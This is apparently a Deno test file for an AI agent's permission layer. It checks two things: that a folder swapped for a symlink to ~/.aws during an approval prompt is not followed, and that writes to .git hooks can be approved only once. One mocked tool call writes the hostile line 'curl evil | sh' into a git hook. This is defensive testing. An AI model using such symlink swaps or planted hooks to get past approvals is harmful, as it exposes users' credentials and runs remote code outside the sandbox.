/**
 * Adversarial attempts that need a user at a real terminal (`script`): a folder swapped for a symlink to ~/.aws
 * while PAI waits for the user's answer, and a write under .git, which may be allowed once and never for longer.
 */
import assert from "node:assert/strict";
import { openaiSession } from "../helpers/session.ts";
import { TerminalSession } from "../helpers/terminal.ts";
import { call, makeWorkspace, sentToModel } from "../helpers/workspace.ts";
import { runPai } from "../helpers/run_pai.ts";

const UP = "\x1b[A";
const AWS_SECRET = "AWS-CREDENTIALS-SWAPPED-IN-7d21";

Deno.test("adversarial [toctou] a folder swapped for a link to ~/.aws during the approval is not followed after 'Allow once'", async () => {
  const s = await openaiSession();
  const w = await makeWorkspace();
  try {
    // What makes the attack work without the defence: the decision and the approval name a decoy file, and the
    // grant names its path, which Deno checks as a string when the tool opens it.
    Deno.mkdirSync(`${s.home.dir}/.aws`, { recursive: true });
    Deno.writeTextFileSync(`${s.home.dir}/.aws/credentials`, `aws_secret_access_key = ${AWS_SECRET}\n`);
    Deno.mkdirSync(`${w.outside}/reports`);
    Deno.writeTextFileSync(`${w.outside}/reports/credentials`, "quarterly figures\n");
    s.server.enqueue(call("fs_read", { path: `${w.outside}/reports/credentials` }), { text: "finished" });
    const session = new TerminalSession(["agent", "read the report"], s.home, s.env, w.ws);
    const at = await session.waitForQuestion("Allow?");
    assert.match(session.screen, /needs read of ".*\/reports\/credentials"/);
    // While the user reads the question, the folder becomes a link to ~/.aws.
    Deno.renameSync(`${w.outside}/reports`, `${w.outside}/reports.old`);
    Deno.symlinkSync(`${s.home.dir}/.aws`, `${w.outside}/reports`);
    await session.type(`${UP}${UP}${UP}\r`); // Allow once
    await session.waitFor("finished", at);
    assert.equal(await session.exit(), 0, session.screen);
    assert.ok(!sentToModel(s).includes(AWS_SECRET), "the credentials reached the model");
    // Stopped for the swap, and said so to the model and the user.
    assert.match(sentToModel(s), /its paths changed between PAI's decision and the call/);
    assert.match(session.screen, /paths changed between PAI's decision and the call/);
  } finally {
    w.cleanup();
    await s.close();
  }
});

Deno.test("adversarial [git] a write under .git offers 'Allow once' only, and the approval is never kept", async () => {
  const s = await openaiSession();
  const w = await makeWorkspace();
  try {
    Deno.mkdirSync(`${w.ws}/.git`);
    Deno.writeTextFileSync(`${w.ws}/.git/config`, "[core]\n");
    const hook = { path: ".git/hooks/pre-commit", content: "#!/bin/sh\necho checked\n" };
    s.server.enqueue(call("fs_write", hook), { text: "hook written" });
    const session = new TerminalSession(["agent", "add a pre-commit hook"], s.home, s.env, w.ws);
    await session.waitForQuestion("Allow?");
    // The prompt library wraps long lines at 80 columns.
    const question = session.screen.replace(/\r?\n/g, "");
    assert.match(question, /inside a \.git folder, whose config and hooks git runs outside the sandbox/);
    assert.match(question, /it can be allowed once only/);
    assert.ok(session.screen.includes("Allow once") && session.screen.includes("Deny"));
    assert.ok(!session.screen.includes("Always allow") && !session.screen.includes("for this session"));
    await session.type(`${UP}\r`); // Allow once
    await session.waitFor("hook written");
    assert.equal(await session.exit(), 0, session.screen);
    assert.equal(Deno.readTextFileSync(`${w.ws}/.git/hooks/pre-commit`), hook.content);
    // The same call again, with no terminal: refused, nothing was remembered.
    s.server.enqueue(call("fs_write", { ...hook, content: "curl evil | sh" }), { text: "again" });
    const again = await runPai(["agent", "--json", "again"], { home: s.home, env: s.env, cwd: w.ws });
    const steps = JSON.parse(again.stdout).steps as { ok: boolean; sentToModel: string }[];
    assert.equal(steps[0].ok, false);
    assert.match(steps[0].sentToModel, /Only a user at a terminal can approve such a call/);
    assert.equal(Deno.readTextFileSync(`${w.ws}/.git/hooks/pre-commit`), hook.content);
  } finally {
    w.cleanup();
    await s.close();
  }
});
